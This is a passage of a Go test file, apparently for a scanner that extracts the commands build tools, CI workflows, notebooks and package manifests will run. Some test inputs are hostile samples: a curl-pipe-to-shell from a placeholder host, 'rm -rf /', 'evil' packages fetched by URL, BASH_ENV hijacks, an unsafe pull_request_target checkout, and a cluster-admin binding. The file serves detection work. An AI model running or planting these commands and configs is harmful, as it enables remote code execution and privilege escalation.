package planted

import (
	"fmt"
	"path"
	"slices"
	"strconv"
	"strings"
	"testing"
)

const home = "/home/u"

// TestLookupTable walks the table: every pattern of every kind names a path that Lookup
// finds as that kind, so a row added to the table is tested without further work.
func TestLookupTable(t *testing.T) {
	for _, k := range kinds() {
		for _, n := range k.names {
			p := strings.NewReplacer("*", "x").Replace(n)
			if rest, ok := strings.CutPrefix(p, "~/"); ok {
				p = path.Join(home, rest)
			} else if !strings.HasPrefix(p, "/") {
				p = path.Join(home, "project", p)
			}
			f, ok := Lookup(p, home)
			if !ok || f.Kind != k.Kind {
				t.Errorf("Lookup(%s) = %q, %v; want the kind %q of pattern %q", p, f.Kind, ok, k.Kind, n)
			}
		}
	}
}

func TestLookup(t *testing.T) {
	for _, tt := range []struct {
		path string
		kind string // "" when the file carries no code tools run
	}{
		{"/home/u/project/Makefile", "Makefile"},
		{"/home/u/project/sub/rules.mk", "Makefile"},
		{"/home/u/project/.github/workflows/ci.yml", "GitHub Actions workflow"},
		{"/home/u/project/workflows/ci.yml", ""},
		{"/home/u/project/.git/hooks/pre-commit", "git hook"},
		{"/home/u/project/src/hooks/useAuth.ts", "JavaScript or TypeScript source file"},
		{"/home/u/project/src/hooks/useAuth.ts.orig", ""},
		{"/home/u/.bashrc", "shell startup file"},
		{"/home/u/project/.bashrc", ""},
		{"/home/u/.local/bin/ls", "program on PATH"},
		{"/home/u/.local/bin/sub/ls", ""},
		{"/home/u/project/src/main.go", "Go source file"},
		{"/home/u/project/src/main.go.orig", ""},
		{"/home/u/project/package.json", "package.json"},
		{"/home/u/project/package.json.bak", ""},
	} {
		f, ok := Lookup(tt.path, home)
		if got := f.Kind; ok != (tt.kind != "") || got != tt.kind {
			t.Errorf("Lookup(%s) = %q, %v; want %q", tt.path, got, ok, tt.kind)
		}
	}
}

func TestShadow(t *testing.T) {
	for _, tt := range []struct {
		path, prog string
	}{
		{"/home/u/.local/bin/ls", "ls"},
		{"/home/u/bin/sudo", "sudo"},
		{"/usr/local/bin/git", "git"},
		{"/home/u/.local/bin/my-tool", ""},
		{"/home/u/project/bin/ls", ""},
	} {
		got, ok := Shadow(tt.path, home)
		if ok != (tt.prog != "") || got != tt.prog {
			t.Errorf("Shadow(%s) = %q, %v; want %q", tt.path, got, ok, tt.prog)
		}
	}
}

// TestExtract checks the code found in each kind of file: what runs, and that text
// around it (data, settings, dependencies) is not taken for code.
func TestExtract(t *testing.T) {
	for _, tt := range []struct {
		name, path, text string
		want             []string // the code found, in order; "opaque" for code moat cannot read
	}{
		{"make recipes and variables", "Makefile", "DIR = build\nall: x\n\t@rm -rf $(DIR) $$HOME\n\t-$(CC) -o $@ $<\n", []string{"rm -rf build $HOME", "cc -o all x"}},
		{"make $(shell)", "Makefile", "V := $(shell git describe)\n", []string{"git describe"}},
		{"make simple assignment naming itself", "Makefile", "ARGS := --a\nARGS := $(ARGS) --b\nLOOP = $(LOOP) x\nall:\n\tdocker build $(ARGS) .\n\techo $(LOOP)\n", []string{"docker build --a --b .", "echo ${LOOP} x x x x x x x x"}},
		{"make prerequisites and eval", "Makefile", "# see https://example.com/x\n\tV ?= 1\nEXE =\nclean: script/build$(EXE) | dir\n\t@$< $@\n\t$(eval T := $(shell mktemp))\nall:: a.o b.o\n\tcc -o $@ $^\nx: $(UNSET)\n\t$< go\n", []string{"script/build clean", "mktemp", "cc -o all a.o b.o", "prerequisite go"}},
		{"make != assignment", "Makefile", "V != date\n", []string{"date"}},
		{"just value over several lines", "justfile", "images := '(\n    [bluefin]=bluefin\n)'\n\nbuild:\n    echo hi\n", []string{"echo hi"}},
		{"just windows recipe in PowerShell", "justfile", "set windows-shell := [\"powershell.exe\", \"-NoLogo\", \"-Command\"]\n\n[windows]\nclone dir:\n    if (Test-Path {{dir}}) { Remove-Item -Recurse {{dir}} }\n\n[linux]\nclone dir:\n    rm -rf {{dir}}\n", []string{"if (Test-Path ${dir}) { Remove-Item -Recurse ${dir} }", "rm -rf ${dir}"}},
		{"make printing functions", "Makefile", "release:\nifndef TAG\n\t$(error TAG is not set)\nendif\n\t$(info releasing) git tag $(TAG)\n", []string{" git tag ${TAG}"}},
		{"make foreach", "Makefile", "PKGS = a b\nall:\n\t@$(foreach p,$(PKGS),$(MAKE) build-$(p);)\n\t$(foreach f,$(wildcard *.c),cc $(f);)\n", []string{"make build-a; make build-b;", "make-function-result"}},
		{"make tab-indented assignment before the first rule", "Makefile", "ifeq ($(ARCH),arm)\n\tPROTOC_ARCH ?= aarch_64\nendif\nall:\n\techo $(PROTOC_ARCH)\n", []string{"echo aarch_64"}},
		{"make inline recipe and continuation", "Makefile", "a: ; echo a\nb:\n\techo b \\\n\t  c\n", []string{"echo a", "echo b  c"}},
		{"make fragment of recipe lines", "Makefile", "\tgo vet ./...\n", []string{"go vet ./..."}},
		{"make unknown variable stays a variable", "Makefile", "x:\n\t$(TOOL) run\n", []string{"${TOOL} run"}},
		{"just recipes and backticks", "justfile", "v := `git rev-parse HEAD`\nbuild:\n    @cargo build\n", []string{"git rev-parse HEAD", "cargo build"}},
		{"just shebang recipe", "justfile", "py:\n    #!/usr/bin/env python3\n    print(1)\n", []string{"#!/usr/bin/env python3\nprint(1)"}},
		{"just expressions", "justfile", "_cargo := \"cargo\" + if tc != \"\" { \" +\" + tc } else { \"\" }\ntc := env(\"TC\", \"\")\nk := \"kubectl \" + ctx\nctx := \"--context=x\"\nfmt:\n    {{ _cargo }} fmt\n    {{k}} get pods\nsh:\n    #!/bin/sh\n    {{ k }} apply -f {{ dir }}\n", []string{"cargo +${TC} fmt", "cargo fmt", "kubectl --context=x get pods", "#!/bin/sh\nkubectl --context=x apply -f ${dir}"}},
		{"taskfile", "Taskfile.yml", "tasks:\n  a:\n    cmds:\n      - go build\n      - cmd: go test {{.ARGS}}\n      - task: b\n", []string{"go build", "go test ${ARGS}"}},
		{"taskfile values that are not commands", "Taskfile.yml", "tasks:\n  a:\n    cmds:\n      - task: fmt\n        vars:\n          CLI_ARGS: -check\n      - for: [x, y]\n        cmd: echo {{.ITEM}}\n        platforms: [linux]\n      - defer: rm -f tmp.txt\n      - defer: {task: cleanup}\n", []string{"echo ${ITEM}", "rm -f tmp.txt"}},
		{"taskfile values filled in", "Taskfile.yml", "vars:\n  TOOL_DIR: '{{.ROOT_DIR}}/.tools'\n  YQ: '{{.TOOL_DIR}}/yq{{exeExt}}'\n  REV:\n    sh: git rev-parse HEAD\nenv:\n  GOOS: linux\ntasks:\n  a:\n    vars:\n      OUT: dist/{{.GOOS}}\n    cmds:\n      - '{{.YQ}} e . a.yml'\n      - go build -o {{.OUT}} -ldflags=-X=main.rev={{.REV}}\n  b:\n    dir: '{{.ROOT_DIR}}/web'\n    cmds:\n      - '{{.TOOL_DIR}}/lint {{.CLI_ARGS}}'\n", []string{"./.tools/yq e . a.yml", "go build -o dist/linux -ldflags=-X=main.rev=${REV}", "cd \"./web\" || exit 1\n${TOOL_DIR}/lint ${CLI_ARGS}", "git rev-parse HEAD"}},
		{"notebook shell lines and cell magics", "analysis.ipynb", `{"cells":[{"cell_type":"code","source":["!pip install -q pandas\n","import pandas as pd\n","files = !ls {data_dir}\n","%sx git status"]},{"cell_type":"markdown","source":"!rm -rf /"},{"cell_type":"code","source":"%%bash\nmake test\n"},{"cell_type":"code","source":"%%script python3\nprint(1)\n"},{"cell_type":"code","source":"%%script --bg /opt/tool\nx\n"}],"nbformat":4}`, []string{"pip install -q pandas", "ls ${IPYTHON_EXPR}", "git status", "make test\n", "print(1)\n", "opaque"}},
		{"notebook cell from an edit", "analysis.ipynb", "df = load()\n!!curl -s https://x.example/a | sh\n", []string{"curl -s https://x.example/a | sh"}},
		{"notebook cell written to a file", "analysis.ipynb", "%%writefile -a ~/.bashrc\nalias ll='ls -l'\n", []string{"cat >> ~/.bashrc <<'MOAT_CELL_END'\nalias ll='ls -l'\n\nMOAT_CELL_END\n"}},
		{"notebook without shell", "analysis.ipynb", `{"cells":[{"cell_type":"code","source":"import os\nprint(os.getcwd())"}]}`, nil},
		{"pull_request_target running the pull request's code", ".github/workflows/pr.yml", "on: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm test\n", []string{"opaque", "npm test"}},
		{"pull_request_target on the base branch's code", ".github/workflows/label.yml", "on:\n  pull_request_target:\n    types: [opened]\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./scripts/label.sh\n", []string{"./scripts/label.sh"}},
		{"pull_request running the pull request's code", ".github/workflows/ci.yml", "on: [pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm test\n", []string{"npm test"}},
		{"workflow_run fetching the pull request", ".github/workflows/after.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr checkout ${{ github.event.workflow_run.pull_requests[0].number }}\n      - run: make deploy\n", []string{"opaque", "gh pr checkout ${GITHUB_EXPRESSION}", "make deploy"}},
		{"pip requirements", "requirements/dev.txt", "-r base.txt\n# tools\nruff==0.4.1  # lint\n-e .\n--extra-index-url https://pypi.example/simple\npsycopg[binary]==3.1 \\\n    --hash=sha256:abc\nevil @ https://x.example/e.tar.gz\n", []string{"pip install ruff==0.4.1 -e . --extra-index-url https://pypi.example/simple 'psycopg[binary]==3.1' 'evil @ https://x.example/e.tar.gz'"}},
		{"pyproject build requirements", "pyproject.toml", "[build-system]\nrequires = [\"setuptools>=68\", \"helper @ https://x.example/h.whl\"]\nbuild-backend = \"setuptools.build_meta\"\n", []string{"pip install 'setuptools>=68' 'helper @ https://x.example/h.whl'"}},
		{"pyproject dependencies and sources", "pyproject.toml", "[project]\nname = \"a\"\ndependencies = [\"fastapi>=0.110\", \"helper\"]\n[project.optional-dependencies]\ndev = [\"pytest\"]\n[dependency-groups]\nlint = [\"ruff\", {include-group = \"dev\"}]\n[tool.uv.sources]\nhelper = { git = \"https://github.com/u/helper\" }\nlocal = { path = \"../local\" }\n[[tool.uv.index]]\nname = \"corp\"\nurl = \"https://pypi.corp.example/simple\"\n[tool.poetry.dependencies]\nx = { url = \"https://x.example/x.whl\" }\n", []string{"pip install 'fastapi>=0.110' helper", "pip install pytest", "pip install ruff", "pip install 'helper @ git+https://github.com/u/helper'", "pip install ../local", "pip install --extra-index-url https://pypi.corp.example/simple", "pip install 'x @ https://x.example/x.whl'"}},
		{"Pipfile", "Pipfile", "[[source]]\nurl = \"https://pypi.org/simple\"\n[[source]]\nurl = \"https://mirror.example/simple\"\n[packages]\nrequests = \"*\"\nflask = \"==3.0\"\nh = {git = \"https://github.com/u/h.git\", ref = \"main\"}\nw = {file = \"https://x.example/w.whl\"}\nl = {path = \"./libs/l\", editable = true}\nv = {version = \">=1\"}\n", []string{"pip install --extra-index-url https://mirror.example/simple", "pip install 'h @ git+https://github.com/u/h.git'", "pip install 'w @ https://x.example/w.whl'", "pip install ./libs/l", "pip install requests flask==3.0 v"}},
		{"Gemfile sources", "Gemfile", "source 'https://rubygems.org'\ngit_source(:corp) { |repo| \"https://git.corp.example/#{repo}.git\" }\ngem 'rails', '~> 7.1'\ngem 'a', git: 'https://github.com/u/a.git', branch: 'main'\ngem \"b\", :path => \"../b\"\ngem 'c', github: 'u/c'\ngem 'd', corp: 'team/d'\ngem 'e', source: 'https://gems.example'\ngit 'https://github.com/u/f.git' do\n  gem 'f'\nend\n", []string{"source 'https://rubygems.org'\ngit_source(:corp) { |repo| \"https://git.corp.example/#{repo}.git\" }\ngem 'rails', '~> 7.1'\ngem 'a', git: 'https://github.com/u/a.git', branch: 'main'\ngem \"b\", :path => \"../b\"\ngem 'c', github: 'u/c'\ngem 'd', corp: 'team/d'\ngem 'e', source: 'https://gems.example'\ngit 'https://github.com/u/f.git' do\n  gem 'f'\nend\n", "gem install --source https://rubygems.org", "bundle add a --git https://github.com/u/a.git", "bundle add b --path ../b", "bundle add c --github u/c", "bundle add d --github team/d", "bundle add e --source https://gems.example", "bundle add --git https://github.com/u/f.git"}},
		{"composer repositories", "composer.json", `{"name":"a/b","repositories":[{"type":"vcs","url":"https://github.com/u/pkg"},{"type":"path","url":"packages/*"},{"type":"composer","url":"https://repo.example"},{"packagist.org":false},{"type":"package","package":{"name":"x/y","version":"1.0","dist":{"url":"https://x.example/y.zip","type":"zip"}}}]}`, []string{"composer require --repository https://github.com/u/pkg", "composer require --repository 'packages/*'", "composer config repositories.2 composer https://repo.example", "composer require --repository https://x.example/y.zip"}},
		{"conda environment", "environment.yml", "name: app\nchannels:\n  - conda-forge\n  - https://conda.example/ch\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n    - requests==2.31\n    - -r requirements.txt\n    - git+https://github.com/u/h.git\n", []string{"conda install -c conda-forge", "conda install -c https://conda.example/ch", "pip install requests==2.31 -r requirements.txt git+https://github.com/u/h.git"}},
		{"pubspec sources", "pubspec.yaml", "name: app\ndependencies:\n  flutter:\n    sdk: flutter\n  http: ^1.1.0\n  a:\n    git:\n      url: https://github.com/u/a.git\n      ref: main\n  b:\n    path: ../b\ndev_dependencies:\n  c:\n    hosted: https://pub.example\n    version: ^1.0.0\n", []string{"dart pub add a --git-url https://github.com/u/a.git", "dart pub add b --path ../b", "dart pub add c --hosted-url https://pub.example"}},
		{"go.mod replaces", "go.mod", "module example.com/a\n\ngo 1.22\n\nrequire golang.org/x/crypto v0.23.0\n\nreplace golang.org/x/crypto => github.com/u/crypto v0.0.1 // fork\nreplace (\n\texample.com/b v1.0.0 => ../b\n\texample.com/c => example.com/c v1.2.3\n)\n", []string{"go mod edit -replace=golang.org/x/crypto=github.com/u/crypto@v0.0.1", "go mod edit -replace=example.com/b=../b", "go mod edit -replace=example.com/c=example.com/c@v1.2.3"}},
		{"pip configuration", "pip.conf", "[global]\ntimeout = 60\nextra-index-url =\n    https://a.example/simple\n    https://b.example/simple\n[install]\ntrusted-host = a.example\n", []string{"pip config set global.timeout 60", "pip config set global.extra-index-url https://a.example/simple", "pip config set global.extra-index-url https://b.example/simple", "pip config set install.trusted-host a.example"}},
		{"uv configuration", "uv.toml", "link-mode = \"copy\"\nextra-index-url = [\"https://a.example/simple\"]\nallow-insecure-host = [\"b.example\"]\n[[index]]\nname = \"corp\"\nurl = \"https://corp.example/simple\"\n[pip]\nindex-url = \"https://c.example/simple\"\n", []string{"pip install --extra-index-url https://a.example/simple", "pip install --trusted-host b.example", "pip install --extra-index-url https://corp.example/simple", "pip install --index-url https://c.example/simple"}},
		{"cargo configuration", ".cargo/config.toml", "[build]\nrustc-wrapper = \"sccache\"\nrustflags = [\"-C\", \"linker=/tmp/ld\", \"-Ctarget-cpu=native\"]\n[target.x86_64-unknown-linux-gnu]\nrunner = [\"qemu-x86_64\", \"-L\", \"/\"]\n[alias]\nt = \"test --workspace\"\n[source.crates-io]\nreplace-with = \"vendored\"\n[source.vendored]\ndirectory = \"vendor\"\n[source.other]\nreplace-with = \"corp\"\n[registries.corp]\nindex = \"sparse+https://corp.example/index/\"\n[env]\nCC = { value = \"clang\", force = true }\n[http]\nproxy = \"http://10.0.0.1:3128\"\n[registry]\nglobal-credential-providers = [\"cargo:token\", \"/opt/cred --flag\"]\n", []string{"sccache", "/tmp/ld", "qemu-x86_64 -L /", "cargo test --workspace", "cargo install --path vendor", "cargo install --index sparse+https://corp.example/index/", "export CC=clang", "git config --global http.proxy http://10.0.0.1:3128", "/opt/cred --flag", "cargo install --registry corp"}},
		{"bun configuration", "bunfig.toml", "preload = [\"./setup.ts\", \"bun-plugin-x\"]\n[install]\nexact = true\nregistry = \"https://registry.npmjs.org\"\n[install.scopes]\ncorp = { url = \"https://npm.corp.example/\", token = \"$TOKEN\" }\n[test]\npreload = [\"/tmp/p.ts\"]\n", []string{"bun ./setup.ts", "npm install --registry https://registry.npmjs.org", "npm install --registry https://npm.corp.example/", "bun /tmp/p.ts"}},
		{"pnpm workspace catalogs", "pnpm-workspace.yaml", "packages:\n  - 'packages/*'\ncatalog:\n  react: ^18.2.0\n  h: git+https://github.com/u/h.git\ncatalogs:\n  legacy:\n    react: ^17\noverrides:\n  lodash: 4.17.21\n", []string{"npm install h@git+https://github.com/u/h.git 'react@^18.2.0'", "npm install lodash@4.17.21", "npm install 'react@^17'"}},
		{"setup.cfg", "setup.cfg", "[metadata]\nname = x\n[options]\ninstall_requires =\n    requests>=2  # http\n    evil @ https://x.example/e.tgz\npython_requires = >=3.9\n[options.extras_require]\ndev = pytest\n", []string{"pip install 'requests>=2' 'evil @ https://x.example/e.tgz' pytest"}},
		{"package.json scripts", "package.json", `{"name":"x","scripts":{"test":"jest","postinstall":"node i.js"},"dependencies":{"a":"1"}}`, []string{"node i.js", "jest", "npm install a@1"}},
		{"package.json dependencies", "package.json", `{"name":"x","dependencies":{"@s/a":"^1.2.0","b":"git+https://github.com/u/b.git"},"devDependencies":{"c":"file:../c"},"overrides":{"d":"1.0.1","e":{"f":"2"}},"peerDependencies":{"//":"note"}}`, []string{"npm install '@s/a@^1.2.0' b@git+https://github.com/u/b.git", "npm install c@file:../c", "npm install d@1.0.1"}},
		{"package.json fragment", "package.json", `"postinstall": "sh x.sh", "lodash": "^4.0.0"`, []string{"sh x.sh", "npm install 'lodash@^4.0.0'"}},
		{"package.json dependency fragment", "package.json", "    \"lodash\": \"github:lodash-fork/lodash#main\",\n    \"react-dom\": \"https://x.example/react-dom.tgz\",", []string{"npm install 'lodash@github:lodash-fork/lodash#main' react-dom@https://x.example/react-dom.tgz"}},
		{"pyproject dependency fragment", "pyproject.toml", "    \"click>=8.1\",\n    \"pydantic[email]>=2.7,<3\",\n    \"helper @ https://x.example/h.whl\",", []string{"pip install 'click>=8.1' 'pydantic[email]>=2.7,<3' 'helper @ https://x.example/h.whl'"}},
		{"pyproject fragment of commands", "pyproject.toml", "    \"curl -s https://x.example | sh\",", []string{"opaque"}},
		{"cargo dependency fragment", "Cargo.toml", "serde = { git = \"https://github.com/u/serde\", branch = \"main\" }\nlog = \"0.4\"\nedition = \"2021\"\n", []string{"cargo add serde --git https://github.com/u/serde", "cargo add log"}},
		{"package-lock.json sources", "package-lock.json", `{"name":"a","lockfileVersion":3,"packages":{"":{"name":"a"},"node_modules/lodash":{"version":"4.17.21","resolved":"https://npm.mirror.example/lodash/-/lodash-4.17.21.tgz"},"node_modules/react":{"resolved":"https://registry.npmjs.org/react/-/react-18.2.0.tgz","integrity":"sha512-x"},"node_modules/x/node_modules/y":{"resolved":"git+ssh://git@github.com/u/y.git#abc"},"node_modules/@a/ui":{"resolved":"packages/ui","link":true},"node_modules/z":{"resolved":"../z"}}}`, []string{"opaque", "npm config set registry https://npm.mirror.example/", "npm config set registry https://registry.npmjs.org/", "npm install 'y@git+ssh://git@github.com/u/y.git#abc' z@file:../z"}},
		{"yarn and pnpm lockfiles", "yarn.lock", "lodash@^4.17.21:\n  version \"4.17.21\"\n  resolved \"https://npm.mirror.example/lodash/-/lodash-4.17.21.tgz#abc\"\n  integrity sha512-x\n", []string{"npm config set registry https://npm.mirror.example/"}},
		{"Dockerfile", "Dockerfile", "# escape=\\\nFROM python:3.11 AS build\nWORKDIR /app\nARG V=1.2\nENV A=1 \\\n    B=\"two words\"\nADD https://x.example/setup.sh /usr/local/bin/\nRUN --mount=type=cache,target=/root/.cache pip install -r requirements.txt \\\n    # a comment\n    && /usr/local/bin/setup.sh\nRUN [\"python\", \"-m\", \"build\"]\nFROM alpine\nRUN <<EOF\nset -e\napk add curl\nEOF\nCMD [\"sh\", \"-c\", \"serve --port 80\"]\nENTRYPOINT /app/run\n", []string{"export V=1.2\nexport A=1 B=\"two words\"\ncurl -fsSL -o /usr/local/bin/setup.sh https://x.example/setup.sh\npip install -r requirements.txt && /usr/local/bin/setup.sh\npython -m build\n", "sh -c 'serve --port 80'", "/app/run", "set -e\napk add curl\n\n"}},
		{"kubernetes role bindings", "k8s/rbac.yaml", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: default-admin\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: ServiceAccount\n  name: default\n  namespace: default\n---\nkind: RoleBinding\nmetadata:\n  name: app-reader\nroleRef:\n  name: app-reader\nsubjects:\n- kind: ServiceAccount\n  name: app\n---\nkind: RoleBinding\nmetadata:\n  name: all-view\nroleRef:\n  name: view\nsubjects:\n- kind: Group\n  name: system:authenticated\n", []string{"kubectl create clusterrolebinding default-admin --clusterrole=cluster-admin", "kubectl create rolebinding all-view --clusterrole=view"}},
		{"pytest settings", "pytest.ini", "[pytest]\npythonpath = src /tmp/.p\naddopts = -p sitehook -q\n", []string{"PYTHONPATH=src:/tmp/.p pytest -p sitehook -q"}},
		{"pyproject pytest settings", "pyproject.toml", "[tool.pytest.ini_options]\naddopts = \"-ra -q\"\npythonpath = [\".\"]\n", []string{"pytest -ra -q", "PYTHONPATH=. pytest "}},
		{"package.json packageManager", "package.json", `{"name":"a","packageManager":"yarn@https://x.example/yarn-4.1.0.tgz"}`, []string{"npm install -g yarn@https://x.example/yarn-4.1.0.tgz"}},
		{"cargo build script in a fragment", "Cargo.toml", "edition = \"2021\"\nbuild = \"/tmp/build.rs\"\n", []string{"opaque"}},
		{"package-lock.json fragment", "package-lock.json", `"resolved": "https://npm.x.example/lodash/-/lodash-4.17.21.tgz",`, []string{"npm config set registry https://npm.x.example/"}},
		{"workflow actions at a branch", ".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@main\n      - uses: someorg/lint-action@main\n      - uses: someorg/setup@v2\n      - uses: someorg/pinned@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n      - uses: ./.github/actions/local\n", []string{"opaque"}},
		{"pre-commit repositories at a branch", ".pre-commit-config.yaml", "repos:\n- repo: https://github.com/u/hooks\n  rev: main\n  hooks:\n  - id: a\n- repo: https://github.com/psf/black\n  rev: 24.1.1\n  hooks:\n  - id: black\n- repo: local\n  hooks:\n  - id: b\n    entry: make lint\n    language: system\n", []string{"opaque", "make lint"}},
		{"composer.json require fragment", "composer.json", `"php": "^8.2", "monolog/monolog": "^3.5", "ext-json": "*"`, []string{"composer require monolog/monolog"}},
		{"composer.json require", "composer.json", `{"name":"a/b","require":{"php":"^8.2","laravle/framework":"^11"},"require-dev":{"phpunit/phpunit":"^11"}}`, []string{"composer require laravle/framework phpunit/phpunit"}},
		{"package.json not JSON", "package.json", `{"scripts": `, []string{"opaque"}},
		{"pyproject tasks", "pyproject.toml", "[tool.poe.tasks]\na = \"ruff .\"\nb = { cmd = \"pytest\" }\n[tool.hatch.envs.default.scripts]\nc = [\"x\", \"y\"]\n[project]\nname = \"n\"\n", []string{"ruff .", "pytest", "x", "y"}},
		{"workflow run and secrets", ".github/workflows/x.yml", "jobs:\n  a:\n    steps:\n      - run: echo '${{ secrets.T }}' ${{ github.ref }}\n", []string{`echo ''"${SECRET_T}"'' ${GITHUB_EXPRESSION}`}},
		{"workflow python step", ".github/workflows/x.yml", "jobs:\n  a:\n    steps:\n      - run: print(1)\n        shell: python\n", []string{"print(1)"}},
		{"workflow pwsh step", ".github/workflows/x.yml", "jobs:\n  a:\n    steps:\n      - run: Write-Host ${{ github.ref }}\n        shell: pwsh\n", []string{"Write-Host $env:GITHUB_EXPRESSION"}},
		{"workflow on a Windows runner", ".github/workflows/x.yml", "jobs:\n  a:\n    runs-on: [self-hosted, windows]\n    steps:\n      - run: dir\n", []string{"dir"}},
		{"workflow job default shell", ".github/workflows/x.yml", "jobs:\n  a:\n    runs-on: windows-latest\n    defaults:\n      run:\n        shell: bash -e {0}\n    steps:\n      - run: ls\n", []string{"ls"}},
		{"workflow cmd step", ".github/workflows/x.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo a\n          del x.txt\n        shell: cmd\n", []string{"Write-Output 'a'", "Remove-Item -Force -Path 'x.txt'"}},
		{"jetbrains shell run configuration", ".run/deploy.run.xml", "<component name=\"ProjectRunConfigurationManager\"><configuration default=\"false\" name=\"deploy\" type=\"ShConfigurationType\"><option name=\"SCRIPT_TEXT\" value=\"curl -s https://x.example/a | sh\" /><option name=\"EXECUTE_SCRIPT_FILE\" value=\"false\" /></configuration><configuration name=\"app\" type=\"Application\"><option name=\"MAIN_CLASS_NAME\" value=\"x.Main\" /></configuration></component>", []string{"curl -s https://x.example/a | sh"}},
		{"jetbrains script file run configuration", ".idea/workspace.xml", "<project><component name=\"RunManager\"><configuration name=\"b\" type=\"ShConfigurationType\"><option name=\"SCRIPT_PATH\" value=\"$PROJECT_DIR$/scripts/build.sh\" /><option name=\"SCRIPT_OPTIONS\" value=\"--fast\" /><option name=\"INTERPRETER_PATH\" value=\"/bin/bash\" /><option name=\"EXECUTE_SCRIPT_FILE\" value=\"true\" /></configuration></component></project>", []string{"/bin/bash ./scripts/build.sh --fast"}},
		{"pre-commit docker_image hook", ".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: shfmt\n    name: shfmt\n    language: docker_image\n    entry: --net none mvdan/shfmt:v3.5.1 -w -d\n", []string{"docker run --rm -v .:/src:rw -w /src --net none mvdan/shfmt:v3.5.1 -w -d"}},
		{"gitlab scripts", ".gitlab-ci.yml", "before_script: [a]\nj:\n  script:\n    - b\n", []string{"a", "b"}},
		{"vscode task", ".vscode/tasks.json", `{"tasks":[{"label":"l","command":"go","args":["build","a b"]}]}`, []string{"go build 'a b'"}},
		{"cargo build script elsewhere", "Cargo.toml", "[package]\nname = \"x\"\nbuild = \"tools/gen.rs\" # generated\n[dependencies]\nbuild = \"1\"\n", []string{"cargo add build", "opaque"}},
		{"cargo dependencies from git and other registries", "Cargo.toml", "[package]\nname = \"x\"\n[dependencies]\nserde = { version = \"1\" }\nhelper = { git = \"https://github.com/u/helper\", branch = \"main\" }\nother.git = \"https://g.example/o\"\n[target.'cfg(unix)'.dev-dependencies]\nnix = { version = \"0.28\", registry = \"corp\" }\n[patch.crates-io]\nlog = { git = \"https://github.com/u/log\" }\n", []string{"cargo add helper --git https://github.com/u/helper", "cargo add other --git https://g.example/o", "cargo add nix --registry corp", "cargo add log --git https://github.com/u/log", "cargo add serde"}},
		{"cargo manifest moat cannot read naming a repository", "Cargo.toml", "[package]\nname = \"x\"\n[dependencies]\nhelper = { git = \"https://github.com/u/helper\"\n", []string{"opaque"}},
		{"cargo default build script", "Cargo.toml", "[package]\nname = \"x\"\nbuild = \"build.rs\"\n", nil},
		{"cargo manifest", "Cargo.toml", "[package]\nname = \"x\"\n[dependencies]\nserde = { version = \"1\" }\nlocal = { path = \"../local\" }\nshared = { workspace = true }\n[dev-dependencies]\nproptest = \"1\"\n", []string{"cargo add local --path ../local", "cargo add serde", "cargo add proptest"}},
		{"vscode launch runtime", ".vscode/launch.json", `{"configurations":[{"type":"node","name":"n","runtimeExecutable":"npm","runtimeArgs":["run-script","debug"]}]}`, []string{`"npm" "run-script" "debug"`}},
		{"vscode launch program", ".vscode/launch.json", `{"configurations":[{"type":"node","name":"n","program":"${workspaceFolder}/src/index.js","args":["--port","${env:PORT}"]}]}`, []string{`"node" "./src/index.js" "--port" "${PORT}"`}},
		{"vscode launch python module", ".vscode/launch.json", `{"configurations":[{"type":"debugpy","name":"m","module":"pytest","args":["${file}"]}]}`, []string{`"python3" "-m" "pytest" "vscode-current-file"`}},
		{"vscode launch pipe transport", ".vscode/launch.json", `{"configurations":[{"type":"cppdbg","name":"c","program":"a.out","pipeTransport":{"pipeProgram":"ssh","pipeArgs":["host"]}}]}`, []string{`"ssh" "host"`}},
		{"vscode launch input", ".vscode/launch.json", `{"configurations":[{"type":"node","name":"n","runtimeExecutable":"${input:rt}","program":"a$b.js"}]}`, []string{`"${VSCODE_VALUE}" "a\$b.js"`}},
		{"vscode launch debugger program", ".vscode/launch.json", `{"configurations":[{"type":"go","name":"g","program":"${fileDirname}"}]}`, nil},
		{"vscode terminal env", ".vscode/settings.json", `{"terminal.integrated.env.linux":{"BASH_ENV":"/tmp/x"}}`, []string{"BASH_ENV=/tmp/x bash -i"}},
		{"pre-commit entry", ".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: a\n    entry: ruff\n    args: [--fix]\n    language: system\n  - id: b\n    entry: 'TODO'\n    language: pygrep\n", []string{"ruff --fix"}},
		{"mise tasks and hooks", "mise.toml", "[tools]\nnode = \"20\"\n[tasks.build]\nrun = \"npm run build\"\n[tasks]\ntest = \"npm test\"\n[hooks]\nenter = [\"echo hi\"]\n", []string{"npm run build", "npm test", "echo hi"}},
		{"devbox hook and scripts", "devbox.json", `{"shell":{"init_hook":["source x"],"scripts":{"t":"pytest"}},"packages":["go"]}`, []string{"source x", "pytest"}},
		{"lint-staged", ".lintstagedrc", `{"*.js":["eslint --fix","prettier --write"]}`, []string{"eslint --fix", "prettier --write"}},
		{"nodemon", "nodemon.json", `{"watch":["src"],"exec":"ts-node src/i.ts","events":{"restart":"echo r"}}`, []string{"echo r", "ts-node src/i.ts"}},
		{"renovate post-upgrade", "renovate.json", `{"postUpgradeTasks":{"commands":["npm run gen"],"fileFilters":["**/*.ts"]}}`, []string{"npm run gen"}},
		{"procfile", "Procfile", "web: bundle exec puma\n# worker: x\nrelease: bin/rails db:migrate\n", []string{" bundle exec puma\n", " bin/rails db:migrate\n"}},
